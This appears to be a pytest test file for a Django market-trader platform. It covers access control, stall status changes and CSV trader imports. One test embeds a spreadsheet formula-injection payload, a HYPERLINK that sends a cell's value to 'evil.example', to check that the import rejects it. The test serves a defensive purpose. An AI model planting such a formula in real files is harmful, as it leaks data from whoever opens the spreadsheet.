"""Operator screens: market page, status, import; other markets and other roles get 404 and change nothing."""

import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from pasar.accounts.models import User
from pasar.catalog.models import Product
from pasar.markets.models import Category
from pasar.traders.models import Stall, Trader, TraderImport

pytestmark = pytest.mark.django_db

CSV = b"Nama;No HP;Blok;Los;Nomor;Kategori\nEuis;0812-1000-0001;A;1;1;sayur\nDedi;12345;A;1;4;sayur\n"


def counts():
    return (
        User.objects.count(),
        Trader.objects.count(),
        Stall.objects.count(),
        Product.objects.count(),
        TraderImport.objects.count(),
    )


def found(pattern, text):
    match = re.search(pattern, text)
    assert match is not None
    return match.group(1)


def url(name, market, **kwargs):
    return reverse(f"traders:{name}", kwargs={"slug": market.slug, **kwargs})


@pytest.fixture(autouse=True)
def _english(client, settings):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"


@pytest.fixture
def operator_client(client, roles):
    client.force_login(roles.operator)
    return client


def post_everywhere(client, market, stall, trader_import_pk):
    """Every write endpoint of ``market``, each must answer 404 or a login redirect."""
    upload = SimpleUploadedFile("a.csv", CSV)
    return [
        client.get(url("operator-market", market)),
        client.post(url("stall-status", market, stall_id=stall.pk), {"status": "dilatih"}),
        client.post(url("import-upload", market), {"file": upload}),
        client.get(url("import-report", market, pk=trader_import_pk)),
        client.post(url("import-confirm", market, pk=trader_import_pk), {"consent": "on"}),
    ]


@pytest.fixture
def pending_import(operator_client, market, vocabulary):
    operator_client.post(url("import-upload", market), {"file": SimpleUploadedFile("a.csv", CSV)})
    operator_client.logout()
    return TraderImport.objects.get()


@pytest.mark.parametrize("who", ["other_operator", "trader", "buyer", "courier", "officer"])
def test_other_roles_and_other_markets_get_404_and_nothing_changes(client, roles, market, stall, pending_import, who):
    client.force_login(getattr(roles, who))
    before = counts()
    responses = post_everywhere(client, market, stall, pending_import.pk)
    assert [r.status_code for r in responses] == [404] * 5
    assert counts() == before
    assert Trader.objects.get(pk=stall.trader.pk).status == "terdata"
    assert TraderImport.objects.get(pk=pending_import.pk).status == "pending"


def test_anonymous_is_sent_to_login(client, roles, market, stall, pending_import):
    before = counts()
    responses = post_everywhere(client, market, stall, pending_import.pk)
    assert [r.status_code for r in responses] == [302] * 5
    assert all(r.url.startswith("/akun/masuk/?next=") for r in responses)
    assert counts() == before


def test_a_stall_of_another_market_cannot_be_changed_through_this_market(client, roles, market, other_market):
    other_stall = Stall.objects.create(
        market=other_market,
        trader=Trader.objects.create(user=User.objects.create_user("+6281299990000", name="X")),
        category=Category.objects.get_or_create(slug="sayur", defaults={"name": "Sayur"})[0],
        name="L",
        number="1",
    )
    client.force_login(roles.admin)  # staff operate every market, still not across URLs
    response = client.post(url("stall-status", market, stall_id=other_stall.pk), {"status": "dilatih"})
    assert response.status_code == 404
    assert Trader.objects.get(pk=other_stall.trader.pk).status == "terdata"


def test_operator_market_page_links_both_flows_and_advances_status(operator_client, market, stall):
    page = operator_client.get(url("operator-market", market))
    assert reverse("onboarding:register", kwargs={"slug": market.slug}) in page.text
    assert url("import-upload", market) in page.text
    assert 'name="status" value="dilatih"' in page.text
    response = operator_client.post(url("stall-status", market, stall_id=stall.pk), {"status": "dilatih"})
    assert response.status_code == 302
    assert Trader.objects.get(pk=stall.trader.pk).status == "dilatih"
    assert 'value="aktif"' in operator_client.get(url("operator-market", market)).text
    operator_client.post(url("stall-status", market, stall_id=stall.pk), {"status": "terdata"})
    assert Trader.objects.get(pk=stall.trader.pk).status == "dilatih"


def test_import_upload_report_confirm(operator_client, market, vocabulary, roles):
    before = counts()
    response = operator_client.post(url("import-upload", market), {"file": SimpleUploadedFile("data.csv", CSV)})
    trader_import = TraderImport.objects.get()
    assert response.url == url("import-report", market, pk=trader_import.pk)
    assert counts()[:4] == before[:4]
    report = operator_client.get(response.url)
    assert 'id="ok-count">1<' in report.text
    assert 'id="error-count">1<' in report.text
    assert "Phone number is missing or not a valid Indonesian number." in report.text

    refused = operator_client.post(url("import-confirm", market, pk=trader_import.pk), {})
    assert refused.status_code == 400
    assert counts()[:4] == before[:4]

    done = operator_client.post(url("import-confirm", market, pk=trader_import.pk), {"consent": "on"})
    assert done.status_code == 200
    pin = found(r"<strong>(\d{6})</strong>", done.text)
    user = User.objects.get(phone="+6281210000001")
    assert user.check_password(pin)
    assert counts()[:3] == (before[0] + 1, before[1] + 1, before[2] + 1)

    again = operator_client.post(url("import-confirm", market, pk=trader_import.pk), {"consent": "on"})
    assert again.status_code == 302
    assert counts()[:3] == (before[0] + 1, before[1] + 1, before[2] + 1)
    assert "already imported" in operator_client.get(again.url).text


def test_import_conflict_is_explained(operator_client, market, vocabulary):
    operator_client.post(url("import-upload", market), {"file": SimpleUploadedFile("data.csv", CSV)})
    trader_import = TraderImport.objects.get()
    Stall.objects.create(
        market=market,
        trader=Trader.objects.earliest("pk"),
        category=Category.objects.get(slug="sayur"),
        name="L",
        block="A",
        row="1",
        number="1",
    )
    before = counts()
    response = operator_client.post(url("import-confirm", market, pk=trader_import.pk), {"consent": "on"})
    assert response.status_code == 409
    assert "Nothing was imported" in response.text
    assert "This stall is already registered in the market." in response.text
    assert counts() == before


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("a.pdf", b"%PDF", "Upload an Excel file (.xlsx) or a CSV file."),
        ("a.csv", b"", "The submitted file is empty."),
        ("a.csv", b"nama;hp\n", "Columns missing: nomor, kategori."),
        ("a.csv", b"x" * (5 * 1024 * 1024 + 1), "The file is larger than 5 MB."),
    ],
)
def test_bad_files_change_nothing(operator_client, market, vocabulary, name, data, message):
    before = counts()
    response = operator_client.post(url("import-upload", market), {"file": SimpleUploadedFile(name, data)})
    assert response.status_code == 200
    assert message in response.text
    assert counts() == before


def test_another_operator_cannot_see_or_confirm_my_import(client, roles, market, vocabulary):
    from pasar.markets.models import MarketRole

    client.force_login(roles.operator)
    client.post(url("import-upload", market), {"file": SimpleUploadedFile("a.csv", CSV)})
    trader_import = TraderImport.objects.get()
    colleague = User.objects.create_user("+6281288880000", "x", name="Rekan")
    MarketRole.objects.create(user=colleague, market=market, role=MarketRole.Role.OPERATOR)
    client.force_login(colleague)
    before = counts()
    assert client.get(url("import-report", market, pk=trader_import.pk)).status_code == 404
    assert client.post(url("import-confirm", market, pk=trader_import.pk), {"consent": "on"}).status_code == 404
    assert counts() == before


def test_admin_lists_imports_read_only(client, roles, market, vocabulary):
    client.force_login(roles.operator)
    client.post(url("import-upload", market), {"file": SimpleUploadedFile("a.csv", CSV)})
    client.force_login(roles.admin)
    listing = client.get(reverse("admin:traders_traderimport_changelist"))
    assert listing.status_code == 200
    assert "a.csv" in listing.text
    assert client.get(reverse("admin:traders_traderimport_add")).status_code == 403


def test_a_formula_in_a_trader_list_is_a_row_error_on_the_report_and_never_imported(
    operator_client, market, vocabulary
):
    """The issue's row: ``=HYPERLINK(...)`` as a name was accepted and reached the dinas exports as a formula."""
    evil = b'=HYPERLINK("http://evil.example/?leak="&B2,"Klik")'
    data = b"Nama;No HP;Blok;Los;Nomor;Kategori\n" + evil + b";0812-1000-0001;A;1;1;sayur\n"
    data += b"Euis;+62 812 1000 0002;-;1;2;sayur\n"  # a +62 phone and "-" for no block are fine
    response = operator_client.post(url("import-upload", market), {"file": SimpleUploadedFile("data.csv", data)})
    trader_import = TraderImport.objects.get()

    report = operator_client.get(response.url)
    assert 'id="ok-count">1<' in report.text
    assert 'id="error-count">1<' in report.text
    assert "starts with =, so a spreadsheet would run it as a formula: remove the sign." in report.text

    operator_client.post(url("import-confirm", market, pk=trader_import.pk), {"consent": "on"})
    assert not User.objects.filter(name__startswith="=").exists()
    assert User.objects.filter(phone="+6281210000002").exists()
